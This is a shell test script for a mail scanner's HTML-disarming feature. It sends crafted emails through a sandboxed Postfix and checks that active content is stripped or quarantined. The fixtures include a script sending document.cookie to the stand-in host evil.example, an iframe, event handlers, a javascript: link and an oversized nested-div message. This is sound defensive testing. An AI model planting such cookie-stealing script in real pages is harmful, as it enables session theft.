#!/bin/sh
# 1760-html-disarm.t - HTML disarming as a policy action (issue 17 item
# 4) on a real Postfix, with scanners = attachments, html.
#
# Phase 1 (html_disarm = clean): an HTML mail with <script>, <iframe>,
# an onclick and a javascript: link arrives with its text/html part
# disarmed (none of them left; its text, its safe link and its
# Content-ID intact; text/html; charset=us-ascii, quoted-printable), its
# text/plain part byte for byte; a single-part UTF-8 HTML mail with a
# script arrives disarmed, its umlauts as character references; an HTML
# mail with nothing active arrives byte-identical but for X-Holdscan;
# a hostile one (3 MB of nested <div>s around a script: beyond the html
# plugin's max_html_size) is not delivered as it was but quarantined,
# whole, and the log says why; the log and "holdscan scan" say what was
# disarmed.
# Phase 2 (html_disarm_mode = text): the HTML part arrives as its text.
# check-config warns of html_disarm without the html plugin.
HS_LIB=$(cd "$(dirname "$0")/../lib" && pwd)
. "$HS_LIB/tap.sh"
. "$HS_LIB/holdscan.sh"

plan 20

sb_start A || bail_out "sandbox did not start"
QDIR=$(sb_dir A)/hs/quarantine
M="$HS_TMP/mail"
mkdir "$M" && chmod 0755 "$M"

cat >"$HS_TMP/disarm.py" <<'EOF'
"""disarm.py write DIR | send DIR HOST:PORT NAME... | check DIR NAME SINKFILE KIND"""
import base64
import email
import email.policy
import os
import smtplib
import sys

sys.path.insert(0, os.environ["HS_LIB"])
import sinkcheck  # noqa: E402

ACTIVE_HTML = (
    "<html><head><title>Report</title></head>\n"
    "<body onload=3D\"steal()\">\n"
    "<p onclick=3D\"track()\">Dear reader, the quarterly report is ready.</p>=\n"
    "\n"
    "<script>document.location=3D'http://evil.example/'+document.cookie"
    "</script>\n"
    "<iframe src=3D\"https://evil.example/frame\"></iframe>\n"
    "<p><a href=3D\"javascript:alert(1)\">Open it</a> or see\n"
    "<a href=3D\"https://www.corp.example/report\">the web copy</a>.</p>\n"
    "</body></html>\n")

QUIET_HTML = (
    "<html><body><h1>Shop news</h1>\n"
    "<p>New in at <a href=\"https://www.shop.example/new\">our shop</a>.</p>\n"
    "</body></html>\n")


def alternative(name, html, qp):
    return ("From: %s <sender@example.org>\n"
            "To: rcpt@sink.test\n"
            "Date: Mon, 23 Nov 2026 10:00:00 +0000\n"
            "Message-ID: <%s@example.org>\n"
            "X-Test-Token: disarm-%s\n"
            "Subject: %s\n"
            "MIME-Version: 1.0\n"
            "Content-Type: multipart/alternative; boundary=\"alt1760\"\n\n"
            "--alt1760\n"
            "Content-Type: text/plain; charset=us-ascii\n\n"
            "Dear reader, the quarterly report is ready.\n"
            "--alt1760\n"
            "Content-Type: text/html; charset=us-ascii\n"
            "Content-ID: <html-%s@example.org>\n"
            "%s\n"
            "%s"
            "--alt1760--\n" % (name, name, name, name, name,
                               "Content-Transfer-Encoding: quoted-printable\n"
                               if qp else "", html)).encode()


def single(name):
    html = ("<html><body><p>Gr\u00fc\u00dfe aus M\u00fcnchen</p>"
            "<script>alert(1)</script></body></html>\n").encode("utf-8")
    return ("From: %s <sender@example.org>\n"
            "To: rcpt@sink.test\n"
            "Message-ID: <%s@example.org>\n"
            "X-Test-Token: disarm-%s\n"
            "Subject: %s\n"
            "MIME-Version: 1.0\n"
            "Content-Type: text/html; charset=utf-8\n"
            "Content-Transfer-Encoding: base64\n\n" % (name, name, name, name)
            + base64.encodebytes(html).decode()).encode()


def huge(name):
    body = ("<div>" * 200 + "x\n") * 3000 + "<script>alert(1)</script>\n"
    return ("From: %s <sender@example.org>\n"
            "To: rcpt@sink.test\n"
            "Message-ID: <%s@example.org>\n"
            "X-Test-Token: disarm-%s\n"
            "Subject: %s\n"
            "MIME-Version: 1.0\n"
            "Content-Type: multipart/mixed; boundary=\"b1760\"\n\n"
            "--b1760\n"
            "Content-Type: text/plain\n\nsee the HTML\n"
            "--b1760\n"
            "Content-Type: text/html\n\n%s"
            "--b1760--\n" % (name, name, name, name, body)).encode()


MESSAGES = {
    "active": lambda: alternative("active", ACTIVE_HTML, True),
    "quiet": lambda: alternative("quiet", QUIET_HTML, False),
    "single": lambda: single("single"),
    "huge": lambda: huge("huge"),
    "active2": lambda: alternative("active2", ACTIVE_HTML, True),
}


def write(d):
    for name, make in MESSAGES.items():
        with open(os.path.join(d, name + ".eml"), "wb") as f:
            f.write(make())


def send(d, server, names):
    host, port = server.rsplit(":", 1)
    s = smtplib.SMTP(host, int(port))
    for name in names:
        with open(os.path.join(d, name + ".eml"), "rb") as f:
            m = f.read()
        s.sendmail("sender@example.org", ["rcpt@sink.test"],
                   m.replace(b"\n", b"\r\n"))
    s.quit()


def leaves(full):
    got = email.message_from_bytes(full, policy=email.policy.default)
    return [p for p in got.walk() if not p.is_multipart()]


def check(d, name, path, kind):
    with open(os.path.join(d, name + ".eml"), "rb") as f:
        src = f.read()
    with open(path, "rb") as f:
        _, _, full = sinkcheck.parse_sink_file(f.read())
    if kind == "same":
        m = sinkcheck.strip_added_headers(full, [b"X-Holdscan"])
        assert m == src, "content changed"
        return
    parts = leaves(full)
    if kind == "disarmed":
        assert len(parts) == 2, "%d parts" % len(parts)
        text = parts[0].get_content()
        assert text == "Dear reader, the quarterly report is ready.", text
        h = parts[1]
        assert h.get_content_type() == "text/html", h.get_content_type()
        assert h.get_param("charset") == "us-ascii", h.get_param("charset")
        assert h["Content-Transfer-Encoding"] == "quoted-printable"
        assert h["Content-ID"] == "<html-%s@example.org>" % name
        html = h.get_content()
        low = html.lower()
        for bad in ("<script", "iframe", "onclick", "onload", "javascript:",
                    "evil.example", "document.cookie"):
            assert bad not in low, "%s left in %r" % (bad, html)
        assert "Dear reader, the quarterly report is ready." in html, html
        assert '<a href="https://www.corp.example/report">the web copy</a>' \
            in html, html
        assert "<a>Open it</a>" in html, html
    elif kind == "single":
        assert len(parts) == 1
        h = parts[0]
        assert h.get_content_type() == "text/html"
        assert h.get_param("charset") == "us-ascii"
        html = h.get_content()
        assert "<script" not in html, html
        assert "Gr&uuml;&szlig;e aus M&uuml;nchen" in html, html
        got = email.message_from_bytes(full)
        assert got.get_all("Content-Type") == \
            ["text/html; charset=us-ascii"], got.get_all("Content-Type")
        assert got.get_all("MIME-Version") == ["1.0"]
    elif kind == "text":
        assert len(parts) == 2, "%d parts" % len(parts)
        t = parts[1]
        assert t.get_content_type() == "text/plain", t.get_content_type()
        assert t.get_param("charset") == "utf-8"
        text = t.get_content()
        assert "<" not in text.replace("<https://", ""), text
        assert "Dear reader, the quarterly report is ready." in text, text
        assert "the web copy <https://www.corp.example/report>" in text, text
        assert "document" not in text, text
    else:
        raise SystemExit("unknown check " + kind)


if __name__ == "__main__":
    if sys.argv[1] == "write":
        write(sys.argv[2])
    elif sys.argv[1] == "send":
        send(sys.argv[2], sys.argv[3], sys.argv[4:])
    else:
        check(*sys.argv[2:])
EOF
export HS_LIB

dis() {
	"$HS_PYTHON" "$HS_TMP/disarm.py" "$@"
}

dis write "$M" || bail_out "cannot write the messages"
chmod 0644 "$M"/*

in_quarantine() {
	grep -rqa "Message-ID: <$1@" "$QDIR"
}

# start_disarm MODE - holdscand disarming clean mail's HTML in MODE
start_disarm() {
	hs_start A <<-EOF
	scanners = "attachments, html"
	policy {
	    html_disarm = clean
	    html_disarm_mode = $1
	}
	EOF
}

# --- phase 1: disarm ---------------------------------------------------------
start_disarm disarm || bail_out "holdscand did not start"
dis send "$M" "127.0.0.1:$A_SMTP_PORT" active quiet single huge ||
    bail_out "sending failed"
check 'the three deliverable messages arrive at the sink' wait_sink A 3 90
check 'the hostile one is quarantined' wait_until 90 in_quarantine huge
sleep 1
check_eq 'and nothing else arrives' "$(sink_count A)" 3
check 'the active HTML part is disarmed, its text and safe link kept, the text part intact' \
    dis check "$M" active "$(sink_file A disarm-active)" disarmed
check 'the single-part UTF-8 HTML is disarmed, its umlauts kept as references' \
    dis check "$M" single "$(sink_file A disarm-single)" single
check 'HTML with nothing active arrives byte-identical but for X-Holdscan' \
    dis check "$M" quiet "$(sink_file A disarm-quiet)" same
check 'the log says what was disarmed' wait_until 60 grep -q \
    'verdict=clean action=deliver .*disarmed="1 HTML part disarmed (' \
    "$A_HS_LOG"
check 'and why the hostile one was quarantined' wait_until 60 grep -q \
    'cannot disarm HTML: HTML part 2: HTML part of [0-9]* bytes is larger than max_html_size (2097152); action=quarantine instead' \
    "$A_HS_LOG"
QF=$(grep -rla "Message-ID: <huge@" "$QDIR" | head -n 1)
check 'the quarantined copy is whole (its script is still there)' \
    grep -qa '<script>alert(1)</script>' "$QF"
check_eq 'hold is empty' "$(hold_count A)" 0
"$HOLDSCAN" -c "$A_HS_CONF" scan "$M/active.eml" >"$HS_TMP/scan1" 2>&1
check 'holdscan scan says what it would disarm' grep -q \
    '^html: *1 HTML part disarmed (' "$HS_TMP/scan1"
check_eq 'and deliver' "$(sed -n 's/^action: *//p' "$HS_TMP/scan1")" \
    "deliver"
"$HOLDSCAN" -c "$A_HS_CONF" scan "$M/huge.eml" >"$HS_TMP/scan2" 2>&1
check 'holdscan scan: the hostile one would be quarantined, and why' grep -q \
    '^action: *quarantine (not deliver: cannot disarm HTML: ' "$HS_TMP/scan2"
check_eq 'no warnings from holdscand' "$(hs_warnings_after A 0)" 0
hs_stop A
phase2=$(wc -l <"$A_HS_LOG")

# --- phase 2: text -------------------------------------------------------------
start_disarm text || bail_out "holdscand did not restart"
dis send "$M" "127.0.0.1:$A_SMTP_PORT" active2 || bail_out "sending failed"
check 'text: the message arrives' wait_sink A 4 60
check 'its HTML part is now its text' \
    dis check "$M" active2 "$(sink_file A disarm-active2)" text
check 'the log says it was made text' wait_until 60 grep -q \
    'disarmed="1 HTML part made text' "$A_HS_LOG"
check_eq 'no warnings from holdscand' "$(hs_warnings_after A "$phase2")" 0
check_eq 'hold is empty' "$(hold_count A)" 0
hs_stop A

# --- html_disarm without the html plugin: check-config says so --------------
CONF=$(hs_conf A <<-EOF
scanners = attachments
policy {
    html_disarm = "clean, spam"
}
EOF
)
# shellcheck disable=SC2153 # HOLDSCAN is holdscan.sh's
"$HOLDSCAN" -c "$CONF" check-config >"$HS_TMP/cc.out" 2>&1
check 'check-config: html_disarm needs the html plugin' grep -q \
    'warning: policy: html_disarm = "clean, spam" but html is not in scanners' \
    "$HS_TMP/cc.out"

done_testing
